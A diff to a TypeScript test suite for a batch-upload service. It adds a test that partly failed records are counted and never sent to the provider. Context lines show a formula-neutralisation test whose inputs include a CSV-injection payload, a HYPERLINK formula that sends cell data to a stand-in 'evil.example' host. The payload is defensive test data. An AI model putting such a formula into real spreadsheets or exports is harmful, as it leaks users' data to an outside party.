@@ -130,6 +130,39 @@ describe('batch processing', () => {
     assert.equal(retry.body.code, '0701020300');
   });
 
+  it('completes a batch whose records partly failed on their own: those counted from the upload, the others processed, each token sent once', async () => {
+    const [a, b] = [ext('own-a'), ext('own-b')];
+    await createEntities(stack, key, [a, b]);
+    const token = await donor.token();
+    const rows = [
+      [a, token, ''],
+      [b, token, ''], // the same token: fails at once, never sent
+      [a, await donor.token(), ''], // the same entity: fails at once
+      [b, await donor.token(), 'not a level!'], // cannot be a level name: fails at once
+    ];
+    const res = await upload(stack, key, csvOf('externalId,shareToken,applicantLevel', rows));
+    assert.equal(res.status, 201, res.text);
+    const status = await waitForBatch(stack, key, res.body.batchId);
+    assert.equal(status.status, 'completed');
+    assert.deepEqual([status.totalRecords, status.processedRecords, status.summary.successfulRecords, status.failedRecords], [4, 4, 1, 3]);
+    assert.deepEqual(
+      status.summary.errors.map((e: any) => [e.rowNumber, e.errorDetail.category]),
+      [
+        [3, 'TOKEN_ALREADY_USED'],
+        [4, 'DUPLICATE_EXTERNAL_ID'],
+        [5, 'APPLICANT_LEVEL_NOT_CONFIGURED'],
+      ],
+    );
+    assert.equal(stack.sim!.state.stats.imports[token]?.attempts, 1, 'the repeated token went to the provider once, for its first row');
+    assert.equal(stack.sim!.state.stats.imports[rows[3]![1]!], undefined, 'a record that failed on its own is never sent');
+
+    // every record failed on its own: the run has nothing to send and completes
+    const none = await upload(stack, key, csvOf('externalId,shareToken,applicantLevel', [[a, await donor.token(), 'no level!']]));
+    assert.equal(none.status, 201, none.text);
+    const done = await waitForBatch(stack, key, none.body.batchId);
+    assert.deepEqual([done.status, done.processedRecords, done.failedRecords], ['completed', 1, 1]);
+  });
+
   it('writes the failed rows with formula cells neutralized: a leading apostrophe for = + - @', async () => {
     const hostile = ['=HYPERLINK("https://evil.example/?"&B2;"open")', '+1+1', '-2+3', '@SUM(A1)'];
     const tokens = hostile.map((_, i) => `tok-formula-${n}-${i}`);
